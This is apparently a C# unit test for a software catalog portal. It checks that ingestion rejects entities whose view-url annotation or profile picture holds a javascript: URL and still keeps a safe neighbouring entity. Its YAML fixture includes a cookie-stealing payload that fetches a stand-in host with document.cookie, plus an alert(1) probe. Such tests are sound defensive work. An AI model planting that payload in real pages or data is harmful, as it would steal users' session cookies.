using Portal.Catalog.Locations;
using Portal.Catalog.Model;
using Portal.Catalog.Queries;

namespace Portal.Catalog.Tests.Ingestion;

/// <summary>A descriptor that would store a script URL where a portal links or shows an image is that entity's error; its neighbours are still ingested.</summary>
public sealed class Refusing_script_urls(AcmeCatalog app) : IClassFixture<AcmeCatalog>
{
    private static CancellationToken Cancellation => TestContext.Current.CancellationToken;

    [Fact]
    public async Task A_view_url_annotation_and_a_picture_with_script_urls_are_refused_and_the_rest_of_the_file_is_kept()
    {
        using var folder = new CatalogFolder();
        var path = folder.Write("catalog-info.yaml", """
            apiVersion: backstage.io/v1alpha1
            kind: Component
            metadata:
              name: script-view-url
              annotations:
                backstage.io/view-url: javascript:fetch('https://evil.example/'+document.cookie)
            spec: {type: service, lifecycle: production, owner: team-a}
            ---
            apiVersion: backstage.io/v1alpha1
            kind: User
            metadata: {name: script-picture}
            spec: {memberOf: [], profile: {picture: 'javascript:alert(1)'}}
            ---
            apiVersion: backstage.io/v1alpha1
            kind: Component
            metadata:
              name: safe-view-url
              annotations:
                backstage.io/view-url: https://github.com/acme/safe/tree/main/
            spec: {type: service, lifecycle: production, owner: team-a}
            """);

        var outcome = await app.Get<LocationService>().RegisterAsync("file", path, Cancellation);

        var problems = outcome.Problems.Where(p => p.Level == ProblemLevel.Error).ToList();
        Assert.Equal([(1, "metadata.annotations.backstage.io/view-url"), (2, "spec.profile.picture")], problems.Select(p => (p.Document!.Value, p.Field!)));
        Assert.All(problems, p => Assert.Equal(path, p.Source));
        Assert.Contains("the link of component:default/script-view-url", problems[0].Message, StringComparison.Ordinal);
        Assert.Contains("the picture of user:default/script-picture", problems[1].Message, StringComparison.Ordinal);
        var queries = app.Get<EntityQueryService>();
        Assert.Null(await queries.GetAsync("component:default/script-view-url", Cancellation));
        Assert.Null(await queries.GetAsync("user:default/script-picture", Cancellation));
        Assert.NotNull(await queries.GetAsync("component:default/safe-view-url", Cancellation));
    }
}
